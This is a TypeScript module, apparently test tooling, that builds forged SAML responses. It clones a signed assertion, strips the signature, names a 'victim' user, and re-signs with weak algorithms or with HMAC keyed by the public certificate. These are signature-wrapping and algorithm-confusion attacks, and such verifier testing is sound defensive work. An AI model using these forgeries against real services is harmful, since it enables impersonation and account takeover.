import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import { SignedXml } from 'xml-crypto'
import type { KeyPair } from './key-pair.ts'

const xmldsig = 'http://www.w3.org/2000/09/xmldsig#'
const exclusive = 'http://www.w3.org/2001/10/xml-exc-c14n#'

interface Parts {
  readonly document: Document
  readonly response: Element
  readonly assertion: Element
  /** A copy of the assertion, unsigned, with another id, naming the victim. */
  readonly evil: Element
}

/** Rebuilds a provider's answer. */
export function forged(xml: string, victim: string, rebuild: (parts: Parts) => void): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const response = document.documentElement
  const assertion = one(response, 'Assertion')
  const evil = unsigned(assertion)
  evil.setAttribute('ID', '_evil')
  one(evil, 'NameID').textContent = victim
  rebuild({ document, response, assertion, evil })
  return new XMLSerializer().serializeToString(document)
}

export function one(element: Element, localName: string): Element {
  const found = element.getElementsByTagNameNS('*', localName)[0]
  if (!found) throw new Error(`no ${localName}`)
  return found
}

/** The signature that stands directly in an element. */
export function signatureOf(element: Element): Element {
  const found = Array.from(element.childNodes).find((node) => node.nodeName.endsWith('Signature'))
  if (!found) throw new Error('not signed')
  return found as Element
}

/** A copy without any signature. */
export function unsigned<E extends Element>(element: E): E {
  const copy = element.cloneNode(true) as E
  for (const signature of Array.from(copy.getElementsByTagNameNS(xmldsig, 'Signature'))) {
    signature.parentNode?.removeChild(signature)
  }
  return copy
}

interface Signing {
  readonly signature: string
  readonly digest: string
  /** Uses the public certificate as the secret of an HMAC. */
  readonly hmac?: boolean
}

/** The answer with the signature of its assertion made anew, by these keys and algorithms. */
export function resigned(
  xml: string,
  { privateKey, certificate }: KeyPair,
  { signature, digest, hmac }: Signing,
): string {
  const bare = forged(xml, '', ({ assertion }) => {
    assertion.removeChild(signatureOf(assertion))
  })
  const signer = new SignedXml({
    privateKey: hmac ? certificate : privateKey,
    publicCert: certificate,
    signatureAlgorithm: signature,
    canonicalizationAlgorithm: exclusive,
  })
  if (hmac) signer.enableHMAC()
  signer.addReference({
    xpath: "//*[local-name(.)='Assertion']",
    transforms: [`${xmldsig}enveloped-signature`, exclusive],
    digestAlgorithm: digest,
  })
  signer.computeSignature(bare, {
    prefix: 'ds',
    location: { reference: "//*[local-name(.)='Assertion']/*[local-name(.)='Issuer']", action: 'after' },
  })
  return signer.getSignedXml()
}

export const algorithms = {
  rsaSha1: `${xmldsig}rsa-sha1`,
  rsaSha256: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  hmacSha1: `${xmldsig}hmac-sha1`,
  sha1: `${xmldsig}sha1`,
  sha256: 'http://www.w3.org/2001/04/xmlenc#sha256',
}
